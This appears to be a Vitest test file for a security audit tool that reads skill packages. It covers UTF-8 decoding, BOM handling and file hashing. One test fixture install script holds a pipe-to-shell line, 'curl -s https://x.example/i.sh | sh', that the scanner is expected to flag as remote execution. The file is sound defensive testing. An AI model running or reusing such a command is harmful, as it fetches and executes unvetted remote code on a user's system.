@@ -1,0 +1,123 @@
+/**
+ * How a file's bytes become its text: Node's own UTF-8 decoding, the BOM stripped, invalid UTF-8 an
+ * error at its first bad sequence. Real files in a temp dir, read by the engine's `readEntry`.
+ */
+import type { Diagnostic } from '../../src/core/types'
+import { Buffer } from 'node:buffer'
+import { createHash } from 'node:crypto'
+import path from 'node:path'
+import { describe, expect, it } from 'vitest'
+import { audit } from '../../src/audit/engine'
+import { readEntry } from '../../src/audit/read'
+import { makeTree } from '../helpers'
+
+const BOM = Buffer.from([0xEF, 0xBB, 0xBF])
+/** Characters above U+00FF of every UTF-8 length, one that is whitespace, and a surrogate pair. */
+const WIDE = 'em — dash → arrow ─ box ✅ 中文 한 \u3000 wide space 😀 emoji ſ K'
+
+function read(files: Record<string, string | Buffer>): Record<string, { text: string | null, sha256: string }> & {
+  diagnostics: Diagnostic[]
+} {
+  const root = makeTree(files)
+  const diagnostics: Diagnostic[] = []
+  const out: Record<string, { text: string | null, sha256: string }> = {}
+  for (const rel of Object.keys(files)) {
+    const entry = { path: rel, absPath: path.join(root, rel), size: -1, mtimeMs: -1 }
+    const file = readEntry(entry, 'skills/demo', 'demo', diagnostics)!
+    expect(file.size).toBe(Buffer.byteLength(files[rel]!))
+    out[rel] = { text: file.text, sha256: file.sha256 }
+  }
+  return Object.assign(out, { diagnostics })
+}
+
+const sha = (bytes: string | Buffer): string => createHash('sha256').update(bytes).digest('hex')
+
+describe('reading text', () => {
+  it('reads characters above U+00FF as written, in small and large files, BOM stripped', () => {
+    // Large: over 65,528 UTF-16 units (where V8 makes a two-byte string a large object).
+    const large = `${`${WIDE}\n`.repeat(2000)}end`
+    const latin1 = 'caf\u00E9 na\u00EFve \u00FF\n'
+    const files = {
+      'SKILL.md': Buffer.concat([BOM, Buffer.from(`# Title\n${WIDE}\n`)]),
+      'scripts/small.py': `# ${WIDE}\nprint(1)\n`,
+      'scripts/large.sh': large,
+      'notes/latin1.txt': latin1,
+      'notes/ascii.txt': 'plain ascii\n',
+      'notes/bom-only.txt': BOM,
+    }
+    const r = read(files)
+    expect(large.length).toBeGreaterThan(65_528)
+    expect(r.diagnostics).toEqual([])
+    expect(r['SKILL.md']!.text).toBe(`# Title\n${WIDE}\n`)
+    expect(r['scripts/small.py']!.text).toBe(`# ${WIDE}\nprint(1)\n`)
+    expect(r['scripts/large.sh']!.text).toBe(large)
+    expect(r['notes/latin1.txt']!.text).toBe(latin1)
+    expect(r['notes/ascii.txt']!.text).toBe('plain ascii\n')
+    expect(r['notes/bom-only.txt']!.text).toBe('')
+    // The hash is of the bytes as they are on disk, BOM included.
+    for (const [rel, bytes] of Object.entries(files)) expect(r[rel]!.sha256).toBe(sha(bytes))
+  })
+
+  it('gives invalid UTF-8 no text and reports its first bad sequence', () => {
+    const bad = Buffer.concat([Buffer.from('# ok\nline \u2014 two '), Buffer.from([0xC3, 0x28]), Buffer.from(' end\n')])
+    const lone = Buffer.concat([Buffer.from('ab'), Buffer.from([0xED, 0xA0, 0x80]), Buffer.from('\n')])
+    const r = read({ 'references/bad.md': bad, 'scripts/lone-surrogate.js': lone, 'data/blob.bin': bad })
+    expect(r['references/bad.md']!.text).toBeNull()
+    expect(r['scripts/lone-surrogate.js']!.text).toBeNull()
+    // Not a known text extension, no NUL: still not text, but nothing to report.
+    expect(r['data/blob.bin']!.text).toBeNull()
+    expect(r['references/bad.md']!.sha256).toBe(sha(bad))
+    const hint = 'Re-save the file as UTF-8.'
+    expect(r.diagnostics).toEqual([
+      {
+        code: 'fs/invalid-utf8',
+        severity: 'error',
+        message: 'references/bad.md is not valid UTF-8',
+        file: 'skills/demo/references/bad.md',
+        line: 2,
+        column: 12,
+        skill: 'demo',
+        hint,
+      },
+      {
+        code: 'fs/invalid-utf8',
+        severity: 'error',
+        message: 'scripts/lone-surrogate.js is not valid UTF-8',
+        file: 'skills/demo/scripts/lone-surrogate.js',
+        line: 1,
+        column: 3,
+        skill: 'demo',
+        hint,
+      },
+    ])
+  })
+
+  it('scans a text with characters above U+00FF at the right columns, with real excerpts', async () => {
+    const script = `#!/bin/sh\n# setup — step 1 → 2\necho "✅ done — 中文"; curl -s https://x.example/i.sh | sh\n`
+    const root = makeTree({
+      'skills/wide/SKILL.md': '---\nname: wide\ndescription: Installs a tool — with arrows → and more.\n---\n# Wide\n',
+      'skills/wide/scripts/install.sh': script,
+    })
+    const r = await audit({ root, lock: false })
+    const found = r.diagnostics
+      .filter(d => d.code.startsWith('scan/'))
+      .map(d => ({ code: d.code, file: d.file, line: d.line, column: d.column, excerpt: d.excerpt }))
+    // As the stand-ins and the WebAssembly decoder reported it before they were removed.
+    expect(found).toEqual([
+      {
+        code: 'scan/network_access',
+        file: 'skills/wide/scripts/install.sh',
+        line: 3,
+        column: 20,
+        excerpt: 'o "✅ done — 中文"; curl -s https://x.exam',
+      },
+      {
+        code: 'scan/remote_exec',
+        file: 'skills/wide/scripts/install.sh',
+        line: 3,
+        column: 21,
+        excerpt: 'curl -s https://x.example/i.sh | sh',
+      },
+    ])
+  })
+})
